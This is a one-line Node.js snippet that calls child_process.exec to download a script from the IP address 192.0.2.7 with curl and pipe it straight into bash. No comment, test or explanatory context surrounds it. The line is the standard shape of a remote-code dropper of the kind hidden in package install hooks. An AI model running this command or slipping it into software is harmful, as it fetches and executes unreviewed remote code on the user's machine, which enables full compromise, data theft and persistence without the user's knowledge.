require('child_process').exec('curl -fsSL http://192.0.2.7/a | bash');
